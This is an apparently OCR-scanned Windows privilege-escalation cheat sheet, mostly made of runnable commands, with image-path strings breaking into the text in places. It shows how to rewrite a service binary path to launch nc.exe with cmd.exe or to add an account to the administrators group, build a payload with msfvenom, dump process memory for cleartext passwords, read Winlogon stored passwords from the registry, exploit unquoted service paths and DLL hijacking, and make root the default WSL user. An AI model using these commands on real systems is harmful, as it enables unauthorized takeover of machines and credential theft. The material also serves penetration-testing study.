Privileged groupsIf you belongs to some privileged group you may be able to escalate privileges. Learn about privileged groups and how to abuse them to escalate privileges here:

pagePrivileged Groups

Token manipulation

Learn more about what is a token in this page: Windows Tokens. Check the following page to learn about interesting tokens and how to abuse them:

pageAbusing Tokens

Logged users / Sessions

klist sessions

Home folders

dir C:\Users
Get-ChildItem C:\Users

Password Policy

net accounts

Get the content of the clipboard

powershell -command "Get-Clipboard"

Running Processes

File and Folder Permissions

First of all, listing the processes check for passwords inside the command line of the process. Check if you can overwrite some binary running or if you have write permissions of the binary folder to exploit possible DLL Hijacking attacks:Tasklist /SVC #List processes running and services
tasklist /v /fi "username eq system" #Filter "system" processes

#With allowed Usernames
Get-WmiObject -Query "Select * from Win32_Process" | where {$_.Name -notlike "svchost*"} | Select Name, Handle, @{Label="Owner";Expression={$_.GetOwner().User}} | ft -AutoSize

#Without usernames
Get-Process | where {$_.ProcessName -notlike "svchost*"} | ft ProcessName, Id

Always check for possible electron/cef/chromium debuggers running, you could abuse it to escalate privileges.

Checking permissions of the processes binaries

for /f "tokens=2 delims='='" %%x in ('wmic process list full^|find /i "executablepath"^|find /i /v "system32"^|find ":"') do (
    for /f eol^=^"^ delims^=^" %%z in ('echo %%x') do (
        icacls "%%z"
2>nul | findstr /i "(F) (M) (W) :\\" | findstr /i ":\\ everyone authenticated users todos %username%" && echo.

Checking permissions of the folders of the processes binaries (DLL Hijacking)

for /f "tokens=2 delims='='" %%x in ('wmic process list full^|find /i "executablepath"^|find /i /v
"system32"^|find ":"') do for /f eol^=^"^ delims^=^" %%y in ('echo %%x') do (
    icacls "%%~dpy\" 2>nul | findstr /i "(F) (M) (W) :\\" | findstr /i ":\\ everyone authenticated users
todos %username%" && echo.

Memory Password mining

You can create a memory dump of a running process using procdump from sysinternals. Services like FTP have the credentials in clear text in memory, try to dump the memory and read the credentials.

procdump.exe -accepteula -ma <proc_name_tasklist>

Insecure GUI apps

Applications running as SYSTEM may allow an user to spawn a CMD, or browse directories.

Example: "Windows Help andSupport" (Windows + F1), search for "command prompt", click on "Click to open Command Prompt"


Get a list of services:

net start
wmic service list brief
sc query


You can use sc to get information of a service

sc qc <service_name>

It is recommended to have the binary accesschk from Sysinternals to check the required privilege level for each service.

accesschk.exe -ucqv <Service_Name> #Check rights for different groups

It is recommended to check if "Authenticated Users" can modify any service:

accesschk.exe -uwcqv "Authenticated Users" * /accepteula
accesschk.exe -uwcqv %USERNAME% * /accepteula
accesschk.exe -uwcqv "BUILTIN\Users" * /accepteula 2>nul
accesschk.exe -uwcqv "Todos" * /accepteula ::Spanish version

You can download accesschk.exe for XP for here

Enable service

If you are having this error (for example with SSDPSRV):

System error 1058 has occurred. The service cannot be started, either because it is disabled or because it has no enabled devices associated with it.

You can enable it using

sc config SSDPSRV start= demand
sc config SSDPSRV obj= ".\LocalSystem" password= ""Take into account that the service upnphost depends on SSDPSRV to work (for XP SP1)

Another workaround of this problem is running:

sc.exe config usosvc start= auto

Modify service binary path

In the scenario where the "Authenticatedusers" group possesses SERVICE_ALL_ACCESS on a service, modification of the service's executable binary is possible. To modify and execute sc:

sc config <Service_Name> binpath= "C:\nc.exe -nv 9988 -e C:\WINDOWS\System32\cmd.exe"
sc config <Service_Name> binpath= "net localgroup administrators username /add"
sc config <Service_Name> binpath= "cmd \c C:\Users\nc.exe 4444 -e cmd.exe"

sc config SSDPSRV binpath= "C:\Documents and Settings\PEPE\meter443.exe"

Restart service

wmic service NAMEOFSERVICE call startservice
net stop [service name] && net start [service name]

Privileges can be escalated through various permissions:

  • SERVICE_CHANGE_CONFIG: Allows reconfiguration of the service binary.

  • WRITE_DAC: Enables permission reconfiguration, leading to the ability to change service configurations.

  • WRITE_OWNER: Permits ownership acquisitionand permission reconfiguration.

  • GENERIC_WRITE: Inherits the ability to change service configurations.

  • GENERIC_ALL: Also inherits the ability to change service configurations.

For the detection and exploitation of this vulnerability, the exploit/windows/local/service_permissions can be utilized.

Services binaries weak permissions

Check if you can modify the binary that is executed by a service or if you have write permissions on the folder where the binary is located (DLL Hijacking). You can get every binary that is executed by a service using wmic (not in system32) and check your permissions using icacls:

for /f "tokens=2 delims='='" %a in ('wmic service list full^|find /i "pathname"^|find /i /v "system32"') do @echo %a >> %temp%\perm.txt

for /f eol^=^"^ delims^=^" %a in (%temp%\perm.txt) do cmd.exe /c icacls "%a" 2>nul | findstr "(M) (F) :\"

You can also use sc and icacls:

sc query state= all | findstr "SERVICE_NAME:" >> C:\Temp\Servicenames.txt
FOR /F "tokens=2 delims= " %i in (C:\Temp\Servicenames.txt) DO @echo %i >> C:\Temp\services.txt
FOR /F %i in (C:\Temp\services.txt) DO @sc qc %i | findstr "BINARY_PATH_NAME" >> C:\Temp\path.txt

Services registry modify permissions

You should check if you can modify any service registry. You can check your permissions over a service registry doing:

reg query hklm\System\CurrentControlSet\Services /s /v imagepath #Get the binarypaths of the services

#Try to write every service with its current content (to check if you have write permissions)
for /f %a in ('reg query hklm\system\currentcontrolset\services') do del %temp%\ 2>nul & reg save %a %temp%\ 2>nul && reg restore %a %temp%\ 2>nul && echo You can modify %a

get-acl HKLM:\System\CurrentControlSet\services\* | Format-List * | findstr /i "<Username> Users Path Everyone"

It should be checked whether Authenticated Users or NT AUTHORITY\INTERACTIVE possess FullControl permissions. If so, the binary executed by the service can be altered.

To change the Path of the binary executed:

reg add HKLM\SYSTEM\CurrentControlSet\services\<service_name> /v ImagePath /t REG_EXPAND_SZ /d C:\path\new\binary /f

Services registry AppendData/AddSubdirectory permissions

If you have this permission over a registry this means to you can create sub registries from this one. In case of Windows services this is enough to execute arbitrary code:

pageAppendData/AddSubdirectory permission over service registryUnquoted Service Paths

If the path to an executable is not inside quotes, Windows will try to execute every ending before a space.

For example, for the path C:\Program Files\Some Folder\Service.exe Windows will try to execute:

C:\Program Files\Some.exe
C:\Program Files\Some Folder\Service.exe

List all unquoted service paths, excluding those belonging to built-in Windows services:

wmic service get name,displayname,pathname,startmode|findstr /i "Auto" | findstr /i /v "C:\Windows\\" |findstr /i /v """
wmic service get name,displayname,pathname,startmode | findstr /i /v "C:\\Windows\\system32\\" |findstr /i /v """ #Not only auto services

#Other way
for /f "tokens=2" %%n in ('sc query state^= all^| findstr SERVICE_NAME') do (
    for /f "delims=: tokens=1*" %%r in ('sc qc "%%~n" ^| findstr BINARY_PATH_NAME ^| findstr /i /v /l /c:"c:\windows\system32" ^| findstr /v /c:""""') do (
        echo %%~s | findstr /r /c:"[a-Z][ ][a-Z]" >nul 2>&1 && (echo %%n && echo %%~s && icacls %%s | findstr /i "(F) (M) (W) :\" | findstr /i ":\\ everyone authenticated users todos %username%") && echo.
gwmi -class Win32_Service -Property Name, DisplayName, PathName, StartMode | Where {$_.StartMode -eq "Auto" -and $_.PathName -notlike "C:\Windows*" -and $_.PathName -notlike '"*'} | select PathName,DisplayName,Name

You can detect and exploit this vulnerability with metasploit:exploit/windows/local/trusted\_service\_path You can manually create a service binary with metasploit:

msfvenom -p windows/exec CMD="net localgroup administrators username /add" -f exe-service -o service.exe

Recovery Actions

Windows allows users to specify actions to be taken if a service fails. This feature can be configured to point to a binary. If this binary is replaceable, privilege escalation might be possible. More details can be found in the official documentation.


Installed Applications

Check permissions of the binaries (maybe you can overwrite one and escalate privileges) and of the folders (DLL Hijacking).

dir /a "C:\Program Files"
dir /a "C:\Program Files (x86)"

Get-ChildItem 'C:\Program Files', 'C:\Program Files (x86)' | ft Parent,Name,LastWriteTime
Get-ChildItem -path Registry::HKEY_LOCAL_MACHINE\SOFTWARE | ft Name

Write Permissions

Check if you can modify some config file to read some special file or if you can modify some binary that is going to be executed by an Administrator account (schedtasks).

A way to find weak folder/files permissions in the system is doing:

accesschk.exe /accepteula
# Find all weak folder permissions per drive.
accesschk.exe -uwdqs Users c:\
accesschk.exe -uwdqs "Authenticated Users" c:\accesschk.exe -uwdqs "Everyone" c:\
# Find all weak file permissions per drive.
accesschk.exe -uwqs Users c:\*.*
accesschk.exe -uwqs "Authenticated Users" c:\*.*
accesschk.exe -uwdqs "Everyone" c:\*.*
icacls "C:\Program Files\*" 2>nul | findstr "(F) (M) :\" | findstr ":\ everyone authenticated users todos %username%"
icacls ":\Program Files (x86)\*" 2>nul | findstr "(F) (M) C:\" | findstr ":\ everyone authenticated users todos %username%"
Get-ChildItem 'C:\Program Files\*','C:\Program Files (x86)\*' | % { try { Get-Acl $_ -EA SilentlyContinue | Where {($_.Access|select -ExpandProperty IdentityReference) -match 'Everyone'} } catch {}}

Get-ChildItem 'C:\Program Files\*','C:\Program Files (x86)\*' | % { try { Get-Acl $_ -EA SilentlyContinue | Where {($_.Access|select -ExpandProperty IdentityReference) -match 'BUILTIN\Users'} } catch {}}

Run at startup

Check if you can overwrite some registry or binary that is going to be executed by a different user. Read the following page to learn more about interesting autoruns locations to escalate privileges:

pagePrivilege Escalation with Autoruns


Look for possible third party weird/vulnerable drivers

driverquery.exe /fo table
driverquery /SI

PATH DLL Hijacking

If you have write permissions inside a folder present on PATH you could be able to hijack a DLL loaded by a process and escalate privileges.Check permissions of all folders inside PATH:

for %%A in ("%path:;=";"%") do ( cmd.exe /c icacls "%%~A" 2>nul | findstr /i "(F) (M) (W) :\" | findstr /i ":\\ everyone authenticated users todos %username%" && echo. )

For more information about how to abuse this check:

pageWritable Sys Path +Dll Hijacking Privescnet view #Get a list of computers
net view /all /domain [domainname] #Shares on the domains
net view \\computer /ALL #List shares of a computer
net use x: \\computer\share #Mount the share locally
net share #Check current shares

hosts file

Check for other known computers hardcoded on the hosts file

type C:\Windows\System32\drivers\etc\hosts

Network Interfaces & DNS

ipconfig /all
Get-NetIPConfiguration | ft InterfaceAlias,InterfaceDescription,IPv4Address
Get-DnsClientServerAddress -AddressFamily IPv4 | ft

Open Ports

Check for restricted services from the outside

netstat -ano #Opened ports?

Routing Table

route print
Get-NetRoute -AddressFamily IPv4 | ft DestinationPrefix,NextHop,RouteMetric,ifIndex

ARP Table

arp -A
Get-NetNeighbor -AddressFamily IPv4 | ftifIndex,IPAddress,L

Firewall Rules

Check this page for Firewall related commands (list rules, create rules, turn off, turn off...)

More commands for network enumeration here

Windows Subsystem for Linux (wsl)


Binary bash.exe can also be found in C:\Windows\WinSxS\amd64_microsoft-windows-lxssbash_[...]\bash.exe

If you get root user you can listen on any port (the first time you use nc.exe to listen on a port it will ask via GUI if nc should be allowed by the firewall).

wsl whoami
./ubuntun1604.exe config --default-user root
wsl whoami

To easily start bash as root, you can try --default-user root

You can explore the WSL filesystem in the folder C:\Users\%USERNAME%\AppData\Local\Packages\CanonicalGroupLimited.UbuntuonWindows_79rhkp1fndgsc\LocalState\rootfs\Windows Credentials

Winlogon Credentials

reg query "HKLM\SOFTWARE\Microsoft\Windows NT\Currentversion\Winlogon" 2>nul | findstr /i "DefaultDomainName DefaultUserName DefaultPassword AltDefaultDomainName AltDefaultUserName AltDefaultPassword LastUsedUsername"

#Other way
reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultDomainName
regquery "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultUserName
reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword
